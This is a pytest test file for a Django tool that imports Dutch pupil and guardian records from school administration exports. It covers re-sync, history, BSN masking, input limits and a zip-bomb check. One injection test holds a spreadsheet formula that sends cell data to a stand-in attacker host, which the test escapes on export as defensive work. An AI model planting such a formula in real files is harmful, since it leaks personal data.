"""Import and re-sync of pupils and guardians from administration exports (issue 9)."""

import io
import zipfile
from datetime import date
from pathlib import Path
from types import SimpleNamespace

from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone, translation

import pytest

from core.spreadsheet import safe_cell, safe_row
from leerlingen.demo import bsn_from
from leerlingen.imports import formats, reading, services
from leerlingen.imports.apply import ImportRefused, apply_plan
from leerlingen.imports.models import Importprofiel, Leerlingimport
from leerlingen.imports.plan import build_plan, missing_columns
from leerlingen.imports.progress import StoredProgress
from leerlingen.models import Gezagsrelatie, Leerling, Ouder, Rol
from leerlingen.roles import grant_role

from .factories import (
    BestuurFactory,
    GezagsrelatieFactory,
    GroepFactory,
    LeerlingFactory,
    OuderFactory,
    SchoolFactory,
    UserFactory,
)

FILES = Path(__file__).parent / "files"
PO_GROUPS = ["Groep 3", "Groep 4", "Groep 5", "Groep 6", "Groep 7", "Groep 8"]


@pytest.fixture(autouse=True)
def english(client, settings):
    """The messages are asserted in their English source text (the interface defaults to Dutch)."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    with translation.override("en"):
        yield


def data(name: str) -> bytes:
    return (FILES / name).read_bytes()


@pytest.fixture
def po(db):
    bestuur = BestuurFactory(naam="Stichting Primair Rivierenland")
    school = SchoolFactory(bestuur=bestuur, naam="OBS De Vlieger", brin="07XY")
    for naam in PO_GROUPS:
        GroepFactory(school=school, naam=naam, jaargroep=int(naam[-1]))
    directeur = UserFactory(username="directeur_vlieger")
    grant_role(user=directeur, rol=Rol.DIRECTEUR, container=school)
    return SimpleNamespace(school=school, bestuur=bestuur, user=directeur)


@pytest.fixture
def vo(po):
    school = SchoolFactory(
        bestuur=po.bestuur, naam="Het Rivierenlyceum", brin="08ZZ", onderwijssoort="vo"
    )
    for naam, jaar in (("H1A", 1), ("V2B", 2), ("M3C", 3)):
        GroepFactory(school=school, naam=naam, jaargroep=jaar)
    return SimpleNamespace(school=school, user=po.user)


def run_file(ctx, name, **kwargs):
    return services.import_file(
        school=ctx.school, user=ctx.user, data=data(name), filename=name, **kwargs
    )


def history_rows() -> int:
    return Leerling.history.count() + Ouder.history.count() + Gezagsrelatie.history.count()


# --- real-looking exports of five systems ------------------------------------------------


@pytest.mark.parametrize(
    "name, system",
    [
        ("parnassys.csv", "parnassys"),
        ("esis.xlsx", "esis"),
        ("eduscope.csv", "eduscope"),
        ("somtoday.xlsx", "somtoday"),
        ("magister.csv", "magister"),
    ],
)
def test_each_system_is_recognised_by_its_columns(name, system):
    table = reading.read_table(data(name))
    detected, mapping = formats.detect(table.headers)
    assert detected == system
    assert not missing_columns(mapping)


def test_parnassys_csv_creates_pupils_guardians_and_custody(po):
    plan, run = run_file(po, "parnassys.csv")
    assert plan.ok and run.status == Leerlingimport.Status.INGELEZEN
    assert plan.counts() | {} == {
        "aantal_rijen": 8,
        "aantal_fouten": 0,
        "leerlingen_nieuw": 8,
        "leerlingen_gewijzigd": 0,
        "leerlingen_ongewijzigd": 0,
        "leerlingen_vertrokken": 0,
        "ouders_nieuw": 12,
        "ouders_gewijzigd": 0,
        "ouders_ongewijzigd": 0,
        "relaties_nieuw": 14,
        "relaties_gewijzigd": 0,
    }
    assert Leerling.objects.filter(school=po.school).count() == 8
    zoe = Leerling.objects.get(school=po.school, leerlingnummer="2303")
    assert (zoe.roepnaam, zoe.tussenvoegsel, zoe.achternaam) == (
        "Zoë",
        "van den",
        "Berg",
    )  # Windows-1252 read right
    assert (zoe.huisnummer, zoe.postcode, zoe.groep.naam) == ("7a", "4001CD", "Groep 6")
    assert zoe.geboortedatum == date(2015, 1, 30) and zoe.geslacht == "v"
    assert zoe.bsn == bsn_from(1_234_567) and zoe.bsn.startswith("0") and zoe.bsn_hash
    vader = zoe.relaties.get(relatie="vader")
    assert vader.heeft_gezag is False and vader.ouder.woonplaats == "Geldermalsen"
    # The Jansen siblings share their parents: one record each, two relations each.
    daan, sophie = Leerling.objects.filter(leerlingnummer__in=["2301", "2302"]).order_by(
        "leerlingnummer"
    )
    assert set(daan.ouders.values_list("pk", flat=True)) == set(
        sophie.ouders.values_list("pk", flat=True)
    )
    assert Ouder.objects.filter(achternaam="Jansen").count() == 2
    assert Ouder.objects.get(voornaam="Ruud").relaties.get().relatie == "verzorger"
    assert Ouder.objects.get(voornaam="Ingrid").relaties.get().relatie == "voogd"
    # Every history row names the importing user.
    assert Leerling.history.filter(history_type="+").count() == 8
    assert not Leerling.history.exclude(history_user=po.user).exists()
    assert not Ouder.history.exclude(history_user=po.user).exists()
    assert not Gezagsrelatie.history.exclude(history_user=po.user).exists()
    assert run.leerlingnummers == [str(n) for n in range(2301, 2309)]
    assert run.bestand == ""


def test_esis_xlsx_restores_what_excel_dropped(po):
    plan, run = run_file(po, "esis.xlsx")
    assert plan.ok and plan.counts()["leerlingen_nieuw"] == 6
    zoe = Leerling.objects.get(leerlingnummer="2303")
    assert zoe.bsn == bsn_from(1_234_567)  # stored as a number, the leading zero came back
    assert zoe.geboortedatum == date(2015, 1, 30)  # a real date cell
    assert Ouder.objects.get(voornaam="Mirjam").telefoon == "0612345678"
    assert run.bestandstype == "xlsx" and run.bron == "esis"


def test_eduscope_csv_with_a_title_line_and_bom(po):
    plan, _run = run_file(po, "eduscope.csv")
    assert plan.ok and plan.counts()["leerlingen_nieuw"] == 5
    assert Leerling.objects.get(leerlingnummer="2305").voornamen == "Abraham Johannes"


@pytest.mark.parametrize("name", ["somtoday.xlsx", "magister.csv"])
def test_secondary_school_exports(vo, name):
    plan, _run = run_file(vo, name)
    assert plan.ok
    assert plan.counts()["leerlingen_nieuw"] == 5 and plan.counts()["ouders_nieuw"] == 6
    jesse = Leerling.objects.get(school=vo.school, leerlingnummer="118238")
    assert (
        jesse.bsn == "" and jesse.geslacht == "o" and jesse.relaties.get().relatie == "pleegouder"
    )
    assert Leerling.objects.get(leerlingnummer="118235").achternaam == "Öztürk"
    # The Hendriks siblings share their parents.
    assert Ouder.objects.filter(achternaam="Hendriks").count() == 2


def test_a_guardian_at_another_school_of_the_board_gets_a_separate_record(po, vo):
    """Issue 15: name and e-mail alone never merge a guardian of another school (was one record)."""
    run_file(po, "parnassys.csv")
    text = (
        data("magister.csv")
        .decode()
        .replace("marloes.bakker@voorbeeld.nl", "mirjam.jansen@voorbeeld.nl")
    )
    text = text.replace("Marloes\t\tBakker", "Mirjam\t\tJansen")
    plan, _run = services.import_file(
        school=vo.school, user=vo.user, data=text.encode(), filename="m.csv"
    )
    assert plan.ok and plan.counts()["ouders_nieuw"] == 6 and len(plan.guardian_notices) == 1
    at_po, at_vo = Ouder.objects.filter(email="mirjam.jansen@voorbeeld.nl").order_by("pk")
    assert at_po.kinderen.count() == 2
    assert set(at_po.kinderen.values_list("school_id", flat=True)) == {po.school.pk}
    assert set(at_vo.kinderen.values_list("school_id", flat=True)) == {vo.school.pk}


# --- a guardian of another school of the board (issue 15) ---------------------------------

GUARDIAN_HEADER = (
    "Leerlingnummer;Achternaam;Roepnaam;Geboortedatum;Groep;Verzorger 1 roepnaam;"
    "Verzorger 1 achternaam;Verzorger 1 e-mail;Verzorger 1 telefoon mobiel;Verzorger 1 straat;"
    "Verzorger 1 huisnummer;Verzorger 1 postcode;Verzorger 1 plaats\r\n"
)
SANNE = "Sanne;Visser;s.visser@voorbeeld.nl;0699999999;Dorpsstraat;1;4000 AA;Tiel"


def guardian_file(*rows: str) -> bytes:
    return (GUARDIAN_HEADER + "".join(r + "\r\n" for r in rows)).encode()


@pytest.fixture
def guardian_at_a2(po, vo):
    """School A1 (po) and A2 (vo) of one board; guardian G is linked to a pupil of A2."""
    groep = vo.school.groepen.get(naam="H1A")
    pupil = LeerlingFactory(groep=groep, roepnaam="Lotte", achternaam="Lyceumkind")
    ouder = OuderFactory(
        bestuur=po.bestuur,
        voornaam="Sanne",
        achternaam="Visser",
        email="s.visser@voorbeeld.nl",
        telefoon="0611111111",
        straat="Lyceumlaan",
        huisnummer="9",
        postcode="4009ZZ",
        woonplaats="Buren",
    )
    GezagsrelatieFactory(ouder=ouder, leerling=pupil)
    return ouder


def snapshot(ouder):
    return (
        Ouder.objects.filter(pk=ouder.pk).values().get(),
        sorted(
            Gezagsrelatie.objects.filter(ouder=ouder).values_list(
                "leerling_id", "relatie", "heeft_gezag"
            )
        ),
        Ouder.history.filter(id=ouder.pk).count(),
    )


def test_an_import_never_changes_or_links_a_guardian_of_another_school(client, po, guardian_at_a2):
    before = snapshot(guardian_at_a2)
    # The e-mail address in other capitals: it is still the same address.
    content = guardian_file("7001;Visser;Noor;01-02-2016;Groep 5;" + SANNE.replace("s.v", "S.V"))
    client.force_login(po.user)
    upload(client, po.school, "a1.csv", content)
    run = Leerlingimport.objects.get()
    page = client.get(reverse("admin:leerlingen_leerlingimport_voorbeeld", args=[run.pk]))
    plan = page.context["plan"]
    assert not plan.changed_ouders and len(plan.new_ouders) == 1
    html = page.content.decode()
    assert "a guardian with this e-mail address and name exists at another school" in html
    for of_a2 in ("Het Rivierenlyceum", "Lyceumkind", "Lotte", "0611111111", "Lyceumlaan", "Buren"):
        assert of_a2 not in html
    confirm = reverse("admin:leerlingen_leerlingimport_bevestigen", args=[run.pk])
    client.post(confirm, {"digest": plan.digest})
    run.refresh_from_db()
    assert run.status == Leerlingimport.Status.INGELEZEN
    assert snapshot(guardian_at_a2) == before
    noor = Leerling.objects.get(school=po.school, leerlingnummer="7001")
    (own,) = noor.ouders.all()
    assert own.pk != guardian_at_a2.pk and own.telefoon == "0699999999"
    # A second import of the same file finds the A1 record, not G.
    plan, _run = services.import_file(
        school=po.school, user=po.user, data=content, filename="a.csv"
    )
    assert plan.counts()["ouders_ongewijzigd"] == 1
    assert not plan.new_ouders and not plan.guardian_notices
    assert snapshot(guardian_at_a2) == before


def test_a_guardian_shared_with_another_school_is_kept_but_not_changed(po, guardian_at_a2):
    noor = LeerlingFactory(groep=po.school.groepen.get(naam="Groep 5"), leerlingnummer="7001")
    GezagsrelatieFactory(ouder=guardian_at_a2, leerling=noor)
    before = snapshot(guardian_at_a2)
    content = guardian_file("7001;Visser;Noor;01-02-2016;Groep 5;" + SANNE)
    plan, run = services.import_file(school=po.school, user=po.user, data=content, filename="a.csv")
    assert run.status == Leerlingimport.Status.INGELEZEN
    assert not plan.changed_ouders and not plan.new_ouders and not plan.new_relaties
    (notice,) = plan.guardian_notices
    assert notice.row == 2 and "also linked to a pupil of another school" in str(notice)
    assert snapshot(guardian_at_a2) == before


def test_a_guardian_of_this_school_only_is_still_found_by_email_and_name(po, vo):
    run_file(po, "parnassys.csv")
    mirjam = Ouder.objects.get(email="mirjam.jansen@voorbeeld.nl")
    content = guardian_file(
        "7002;Jansen;Lars;01-02-2017;Groep 3;"
        "Mirjam;Jansen;mirjam.jansen@voorbeeld.nl;0600000000;Kerkstraat;12;4001 AB;Tiel"
    )
    plan, _run = services.import_file(
        school=po.school, user=po.user, data=content, filename="a.csv"
    )
    assert not plan.new_ouders and not plan.guardian_notices
    assert [c.field for c in plan.changed_ouders[0].changes] == ["telefoon"]
    assert set(mirjam.kinderen.values_list("leerlingnummer", flat=True)) == {"2301", "2302", "7002"}


# --- preview, re-sync, leavers, history ----------------------------------------------------


def test_reimporting_the_same_file_changes_nothing_and_writes_no_history(po):
    run_file(po, "parnassys.csv")
    before = history_rows()
    plan, run = run_file(po, "parnassys.csv")
    assert plan.counts() == {
        "aantal_rijen": 8,
        "aantal_fouten": 0,
        "leerlingen_nieuw": 0,
        "leerlingen_gewijzigd": 0,
        "leerlingen_ongewijzigd": 8,
        "leerlingen_vertrokken": 0,
        "ouders_nieuw": 0,
        "ouders_gewijzigd": 0,
        "ouders_ongewijzigd": 12,
        "relaties_nieuw": 0,
        "relaties_gewijzigd": 0,
    }
    assert run.status == Leerlingimport.Status.INGELEZEN
    assert history_rows() == before


@pytest.mark.parametrize("name", ["esis.xlsx", "eduscope.csv"])
def test_reimport_is_idempotent_for_other_formats(po, name):
    run_file(po, name)
    before = history_rows()
    plan, _run = run_file(po, name)
    assert not (
        plan.new_pupils
        or plan.changed_pupils
        or plan.new_ouders
        or plan.changed_ouders
        or plan.new_relaties
    )
    assert history_rows() == before


def test_changed_file_preview_and_history_only_for_changes(po):
    run_file(po, "parnassys.csv")
    other = UserFactory(username="administratie_vlieger")
    grant_role(user=other, rol=Rol.ADMINISTRATIE, container=po.school)
    before = {
        n: Leerling.history.filter(leerlingnummer=n).count()
        for n in ("2301", "2303", "2305", "2306", "2307")
    }
    ouder_history = Ouder.history.count()

    plan, run = services.import_file(
        school=po.school, user=other, data=data("parnassys_gewijzigd.csv"), filename="x.csv"
    )
    c = plan.counts()
    assert (
        c["leerlingen_nieuw"],
        c["leerlingen_gewijzigd"],
        c["leerlingen_ongewijzigd"],
        c["leerlingen_vertrokken"],
    ) == (1, 2, 5, 1)
    assert (c["ouders_nieuw"], c["ouders_gewijzigd"], c["ouders_ongewijzigd"]) == (1, 3, 7)
    assert (c["relaties_nieuw"], c["relaties_gewijzigd"]) == (1, 0)
    changes = {ch.ref: {f.field: (f.old, f.new) for f in ch.changes} for ch in plan.changed_pupils}
    assert changes["2305"] == {
        "straat": ("Papesteeg", "Tielseweg"),
        "huisnummer": ("21", "301"),
        "postcode": ("4001JK", "4005PR"),
        "woonplaats": ("Tiel", "Wadenoijen"),
    }
    assert changes["2307"] == {"groep_id": ("Groep 5", "Groep 6")}
    mirjam = next(ch for ch in plan.changed_ouders if ch.name.startswith("Mirjam"))
    assert [(f.field, f.old, f.new) for f in mirjam.changes] == [
        ("email", "mirjam.jansen@voorbeeld.nl", "m.jansen@voorbeeld.nl")
    ]

    # History: one row per changed pupil, by the importing user; none for unchanged pupils.
    after = {n: Leerling.history.filter(leerlingnummer=n).count() for n in before}
    assert after == {"2301": 1, "2303": 1, "2305": 2, "2306": 2, "2307": 2}
    new_rows = Leerling.history.filter(history_user=other)
    assert sorted(new_rows.values_list("leerlingnummer", flat=True)) == [
        "2305",
        "2306",
        "2307",
        "2309",
    ]
    assert Ouder.history.count() == ouder_history + 4
    assert set(Ouder.history.filter(history_user=other).values_list("history_type", flat=True)) == {
        "+",
        "~",
    }
    assert Leerling.objects.get(leerlingnummer="2307").groep.naam == "Groep 6"
    assert run.uitgevoerd_door == other


def test_leavers_get_the_import_date_and_stay(po):
    run_file(po, "parnassys.csv")
    run_file(po, "parnassys_gewijzigd.csv")
    gone = Leerling.objects.get(leerlingnummer="2306")
    assert gone.datum_uitschrijving == timezone.localdate()
    assert gone.relaties.count() == 2  # nothing deleted
    assert gone.history.first().history_user == po.user
    # Not counted again the next time.
    plan, _run = run_file(po, "parnassys_gewijzigd.csv")
    assert plan.counts()["leerlingen_vertrokken"] == 0


def test_a_pupil_who_comes_back_is_enrolled_again(po):
    run_file(po, "parnassys.csv")
    run_file(po, "parnassys_gewijzigd.csv")
    plan, _run = run_file(po, "parnassys.csv")
    back = next(ch for ch in plan.changed_pupils if ch.ref == "2306")
    assert [f.field for f in back.changes] == ["datum_uitschrijving"]
    assert Leerling.objects.get(leerlingnummer="2306").datum_uitschrijving is None
    assert plan.counts()["leerlingen_vertrokken"] == 1  # 2309 was not in this file


def test_first_import_leaves_pupils_entered_by_hand_alone(po):
    groep = po.school.groepen.get(naam="Groep 5")
    by_hand = LeerlingFactory(groep=groep, leerlingnummer="9999")
    plan, _run = run_file(po, "parnassys.csv")
    assert plan.first_import and plan.not_in_file == 1 and not plan.leavers
    by_hand.refresh_from_db()
    assert by_hand.datum_uitschrijving is None


def test_a_changed_bsn_is_masked_in_the_preview(po):
    run_file(po, "parnassys.csv")
    old, new = bsn_from(31_000_017), bsn_from(55_555_555)
    text = data("parnassys.csv").replace(old.encode(), new.encode())
    plan = build_plan(
        school=po.school, table=reading.read_table(text), mapping=formats.FORMATS["parnassys"]
    )
    (change,) = plan.changed_pupils
    (field,) = change.changes
    assert (
        field.field == "bsn"
        and field.old == "••••••" + old[-3:]
        and field.new == "••••••" + new[-3:]
    )
    services.import_file(school=po.school, user=po.user, data=text, filename="x.csv")
    pupil = Leerling.objects.get(leerlingnummer="2301")
    assert (
        pupil.bsn == new
        and pupil.bsn_hash
        and pupil.bsn_hash != Leerling.history.filter(id=pupil.pk).last().bsn
    )


def test_guardian_who_changed_surname_is_matched_by_email(po):
    run_file(po, "parnassys.csv")
    text = data("parnassys.csv").decode("cp1252").replace("M.;Mirjam;;Jansen", "M.;Mirjam;;Visser")
    plan, _run = services.import_file(
        school=po.school, user=po.user, data=text.encode("cp1252"), filename="x.csv"
    )
    assert plan.counts()["ouders_nieuw"] == 0 and plan.counts()["ouders_gewijzigd"] == 1
    assert Ouder.objects.get(email="mirjam.jansen@voorbeeld.nl").achternaam == "Visser"


# --- bad input: a clear answer per row and column, and nothing changes -------------------


@pytest.mark.parametrize(
    "name, rows, column",
    [
        ("fout_datum.csv", {3}, "Geboortedatum"),
        ("fout_bsn.csv", {2}, "BSN"),
        ("fout_dubbel_nummer.csv", {3, 5}, "Leerlingnummer"),
        ("fout_groep.csv", {4}, "Groep"),
        ("fout_ouder_zonder_naam.csv", {3}, "Verzorger 2 achternaam"),
    ],
)
def test_bad_rows_are_reported_by_row_and_column_and_nothing_is_written(po, name, rows, column):
    plan, run = run_file(po, name)
    assert run is None and not plan.ok and plan.importable
    assert plan.bad_rows == rows
    assert {e.row for e in plan.errors} == rows and {e.column for e in plan.errors} == {column}
    for error in plan.errors:
        text = str(error)
        assert f"Row {error.row}, column “{column}”" in text
    assert (
        Leerling.objects.count() == 0
        and Ouder.objects.count() == 0
        and Leerlingimport.objects.count() == 0
    )
    with pytest.raises(ImportRefused):
        apply_plan(plan=plan, run=Leerlingimport(school=po.school), user=po.user)


def test_error_messages_hold_no_bsn_and_no_name(po):
    for name in (
        "fout_bsn.csv",
        "fout_datum.csv",
        "fout_dubbel_nummer.csv",
        "fout_groep.csv",
        "fout_ouder_zonder_naam.csv",
    ):
        plan, _run = run_file(po, name)
        text = " ".join(str(e) for e in plan.errors)
        assert "123456789" not in text and bsn_from(31_000_017) not in text
        for naam in ("Jansen", "Daan", "Sophie", "Berg", "Zoë", "Yassin", "Mirjam", "Erik"):
            assert naam not in text


def test_a_bsn_of_another_pupil_is_refused(po):
    groep = po.school.groepen.get(naam="Groep 5")
    LeerlingFactory(groep=groep, leerlingnummer="7777", bsn=bsn_from(31_000_017))
    plan, _run = run_file(po, "parnassys.csv")
    (error,) = plan.errors
    assert (error.row, error.column) == (2, "BSN") and "7777" in error.message


def test_missing_key_column_is_fatal(po):
    plan, run = run_file(po, "fout_geen_sleutel.csv")
    assert run is None and not plan.importable
    assert "pupil number" in str(plan.fatal[0])
    with pytest.raises(ImportRefused):
        apply_plan(
            plan=plan, run=Leerlingimport(school=po.school), user=po.user, skip_bad_rows=True
        )


@pytest.mark.parametrize("name", ["onleesbaar.csv", "geen_werkmap.xlsx"])
def test_unreadable_files_are_refused(po, name):
    with pytest.raises(reading.ImportFileError):
        run_file(po, name)
    assert Leerlingimport.objects.count() == 0


def test_text_that_is_not_utf8_or_windows_is_refused():
    with pytest.raises(reading.ImportFileError, match="UTF-16"):
        reading.check_upload("Leerlingnummer;Achternaam\r\n".encode("utf-16"))
    with pytest.raises(reading.ImportFileError):
        reading.check_upload(
            b"Leerlingnummer;Achternaam\r\n1;\x81\x8d\x90\r\n"
        )  # undefined in Windows-1252
    assert reading.check_upload("Leerlingnummer;Achternaam\r\n1;Zoë\r\n".encode("cp1252")) == "csv"


def test_an_old_xls_file_is_refused_with_advice():
    with pytest.raises(reading.ImportFileError, match=".xls"):
        reading.check_upload(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)


def test_xlsx_zip_bomb_is_not_opened():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))
    assert len(buffer.getvalue()) < 200_000
    with pytest.raises(reading.ImportFileError, match="zip bomb"):
        reading.check_upload(buffer.getvalue())


def test_a_file_over_the_size_limit_is_refused(monkeypatch):
    monkeypatch.setattr(reading, "MAX_BYTES", 1000)
    with pytest.raises(reading.ImportFileError, match="too large"):
        reading.check_upload(data("parnassys.csv"))


LIMIT_HEADER = ["Leerlingnummer", "Achternaam", "Roepnaam", "Geboortedatum"]


def test_a_csv_over_the_row_limit_is_refused_while_reading(monkeypatch):
    """Reading stops at the first row over the limit: the unreadable row after it is not reached."""
    monkeypatch.setattr(reading, "MAX_ROWS", 50)
    rows = [";".join(LIMIT_HEADER)] + [f"{n};Jansen;Daan;01-02-2016" for n in range(1, 52)]
    rows.append("9999;" + "x" * 200_000 + ";Daan;01-02-2016")  # over the csv field size limit
    content = "\r\n".join(rows).encode()
    with pytest.raises(reading.ImportFileError, match=r"more than 50 rows: .* stopped at row 52\b"):
        reading.read_table(content)
    exact = "\r\n".join(rows[:51]).encode()  # exactly the limit is fine
    assert len(reading.read_table(exact).rows) == 50


def test_a_workbook_over_the_row_limit_is_refused_while_reading(monkeypatch):
    from openpyxl import Workbook

    monkeypatch.setattr(reading, "MAX_ROWS", 50)
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Export leerlingen"])  # a title line above the header
    sheet.append(LIMIT_HEADER)
    for n in range(1, 52):
        sheet.append([n, "Jansen", "Daan", date(2016, 2, 1)])
    sheet.append([9999, "Jansen", "Daan", 987654321])
    buffer = io.BytesIO()
    workbook.save(buffer)
    # Break the cell in the last row: a workbook read to the end cannot be read at all.
    broken = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(broken, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                assert b"<v>987654321</v>" in content
                content = content.replace(b"<v>987654321</v>", b"<v>not a number</v>")
            target.writestr(item, content)
    with pytest.raises(reading.ImportFileError, match=r"more than 50 rows: .* stopped at row 53\b"):
        reading.read_table(broken.getvalue())
    monkeypatch.setattr(reading, "MAX_ROWS", 60)
    with pytest.raises(reading.ImportFileError, match="cannot be read"):
        reading.read_table(broken.getvalue())


def test_skipping_the_bad_rows_imports_the_rest(po):
    plan, run = run_file(po, "fout_groep.csv", skip_bad_rows=True)
    assert run.status == Leerlingimport.Status.INGELEZEN and run.overgeslagen_rijen == 1
    assert sorted(Leerling.objects.values_list("leerlingnummer", flat=True)) == [
        "2301",
        "2302",
        "2304",
    ]
    # The skipped pupil is in the file: next time it is not a leaver.
    assert "2303" in run.leerlingnummers


def test_an_import_is_one_transaction(po):
    table = reading.read_table(data("parnassys.csv"))
    plan = build_plan(school=po.school, table=table, mapping=formats.FORMATS["parnassys"])
    LeerlingFactory(
        groep=po.school.groepen.first(), leerlingnummer="2308"
    )  # appears after the preview
    run = Leerlingimport.objects.create(school=po.school, bestandsnaam="x.csv", bestandstype="csv")
    with pytest.raises(ImportRefused):
        apply_plan(plan=plan, run=run, user=po.user)
    assert Ouder.objects.count() == 0  # written before the failing pupils, rolled back with them
    assert Leerling.objects.count() == 1
    run.refresh_from_db()
    assert run.status == Leerlingimport.Status.VOORBEELD


def test_confirming_after_the_register_changed_shows_the_preview_again(po):
    run, _table = services.start_import(
        school=po.school, user=po.user, data=data("parnassys.csv"), filename="p.csv"
    )
    plan = services.preview_import(run=run)
    LeerlingFactory(groep=po.school.groepen.first(), leerlingnummer="2301")
    with pytest.raises(ImportRefused, match="changed since the preview"):
        services.confirm_import(run=run, user=po.user, digest=plan.digest)
    assert Ouder.objects.count() == 0
    plan = services.preview_import(run=run)
    services.confirm_import(run=run, user=po.user, digest=plan.digest)
    assert Leerling.objects.count() == 8


# --- spreadsheet injection ---------------------------------------------------------------


def test_a_formula_in_a_name_is_stored_as_text_and_exported_safely(po):
    plan, _run = run_file(po, "injectie.csv")
    assert plan.ok
    pupil = Leerling.objects.get(leerlingnummer="2301")
    assert pupil.achternaam == '=HYPERLINK("http://aanval.example/?d="&C2;"Klik")'
    assert pupil.roepnaam == "+31612345678"
    assert safe_cell(pupil.achternaam) == "'" + pupil.achternaam
    assert safe_row([pupil.roepnaam, pupil.leerlingnummer]) == ["'+31612345678", "2301"]


def test_a_formula_cell_in_a_workbook_is_read_as_its_text_not_its_value(po):
    from openpyxl import Workbook

    headers = ["Leerlingnummer", "Achternaam", "Roepnaam", "Geboortedatum"]
    workbook = Workbook()
    workbook.active.append(headers)
    workbook.active.append(["5001", "=1+2", "@SUM(A1)", date(2016, 1, 1)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    plan, _run = services.import_file(
        school=po.school, user=po.user, data=buffer.getvalue(), filename="f.xlsx"
    )
    assert plan.ok
    pupil = Leerling.objects.get(leerlingnummer="5001")
    assert (pupil.achternaam, pupil.roepnaam) == ("=1+2", "@SUM(A1)")


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+2", "'=1+2"),
        ("+31", "'+31"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Jansen", "Jansen"),
        ("", ""),
        (None, None),
        (-2, -2),
        (date(2020, 1, 1), date(2020, 1, 1)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


# --- the command ---------------------------------------------------------------------------


def test_command_dry_run_writes_nothing_then_imports(po, capsys):
    path = str(FILES / "parnassys.csv")
    call_command("import_pupils", path, "--school", "07XY", "--dry-run", "--no-progress")
    out = capsys.readouterr().out
    assert "Pupils: 8 new" in out and "Dry run" in out
    assert Leerling.objects.count() == 0 and Leerlingimport.objects.count() == 0
    call_command(
        "import_pupils", path, "--school", "07XY", "--user", po.user.username, "--no-progress"
    )
    assert Leerling.objects.count() == 8
    assert Leerlingimport.objects.get().uitgevoerd_door == po.user


def test_command_refuses_a_bad_file(po, capsys):
    with pytest.raises(CommandError, match="errors"):
        call_command(
            "import_pupils", str(FILES / "fout_datum.csv"), "--school", "07XY", "--no-progress"
        )
    assert "Row 3, column “Geboortedatum”" in capsys.readouterr().err
    assert Leerling.objects.count() == 0
    call_command(
        "import_pupils",
        str(FILES / "fout_datum.csv"),
        "--school",
        "07XY",
        "--skip-bad-rows",
        "--no-progress",
    )
    assert Leerling.objects.count() == 3


# --- the admin -----------------------------------------------------------------------------


def upload(client, school, name, content=None, bron=""):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        reverse("admin:leerlingen_leerlingimport_upload"),
        {
            "school": school.pk,
            "bron": bron,
            "bestand": SimpleUploadedFile(name, content or data(name)),
        },
    )


def test_admin_upload_preview_confirm(client, po):
    client.force_login(po.user)
    response = upload(client, po.school, "parnassys.csv")
    run = Leerlingimport.objects.get()
    assert response.status_code == 302 and response.url == reverse(
        "admin:leerlingen_leerlingimport_voorbeeld", args=[run.pk]
    )
    assert run.bestand and run.bestand_sha256
    page = client.get(response.url)
    assert page.status_code == 200
    plan = page.context["plan"]
    assert plan.counts()["leerlingen_nieuw"] == 8
    assert Leerling.objects.count() == 0  # the preview writes nothing
    html = page.content.decode()
    assert bsn_from(31_000_017) not in html
    response = client.post(
        reverse("admin:leerlingen_leerlingimport_bevestigen", args=[run.pk]),
        {"digest": plan.digest},
    )
    assert response.status_code == 302
    run.refresh_from_db()
    assert (
        run.status == Leerlingimport.Status.INGELEZEN
        and run.bestand == ""
        and run.leerlingen_nieuw == 8
    )
    assert Leerling.objects.count() == 8
    assert (
        client.get(reverse("admin:leerlingen_leerlingimport_change", args=[run.pk])).status_code
        == 200
    )


def test_admin_preview_lists_errors_and_refuses_without_skip(client, po):
    client.force_login(po.user)
    upload(client, po.school, "fout_datum.csv")
    run = Leerlingimport.objects.get()
    page = client.get(reverse("admin:leerlingen_leerlingimport_voorbeeld", args=[run.pk]))
    html = page.content.decode()
    assert "Geboortedatum" in html and 'name="skip_bad_rows"' in html
    digest = page.context["plan"].digest
    client.post(
        reverse("admin:leerlingen_leerlingimport_bevestigen", args=[run.pk]), {"digest": digest}
    )
    assert Leerling.objects.count() == 0
    client.post(
        reverse("admin:leerlingen_leerlingimport_bevestigen", args=[run.pk]),
        {"digest": digest, "skip_bad_rows": "1"},
    )
    assert Leerling.objects.count() == 3


def test_admin_unreadable_file_is_answered_on_the_form(client, po):
    client.force_login(po.user)
    response = upload(client, po.school, "onleesbaar.csv")
    assert response.status_code == 200 and "cannot be read" in response.content.decode()
    assert Leerlingimport.objects.count() == 0


def test_admin_own_mapping_is_saved_and_reused(client, po):
    client.force_login(po.user)
    own = b"Nummer;Familienaam;Voornaam;Geboren;Klas\r\n501;Pietersen;Anouk;03-04-2016;Groep 5\r\n"
    response = upload(client, po.school, "eigen.csv", own)
    run = Leerlingimport.objects.get()
    assert response.url == reverse("admin:leerlingen_leerlingimport_kolommen", args=[run.pk])
    page = client.get(response.url)
    assert "Pupil number" in page.content.decode()
    response = client.post(
        response.url,
        {
            "veld_leerlingnummer": "Nummer",
            "veld_achternaam": "Familienaam",
            "veld_roepnaam": "Voornaam",
            "veld_geboortedatum": "Geboren",
            "veld_groep": "Klas",
            "profiel_naam": "Eigen export",
        },
    )
    assert response.url == reverse("admin:leerlingen_leerlingimport_voorbeeld", args=[run.pk])
    plan = client.get(response.url).context["plan"]
    assert plan.ok and plan.counts()["leerlingen_nieuw"] == 1
    profiel = Importprofiel.objects.get(school=po.school, naam="Eigen export")
    assert profiel.kolommen["leerlingnummer"] == "Nummer"
    assert client.get(reverse("admin:leerlingen_importprofiel_changelist")).status_code == 200
    page = client.get(reverse("admin:leerlingen_importprofiel_change", args=[profiel.pk]))
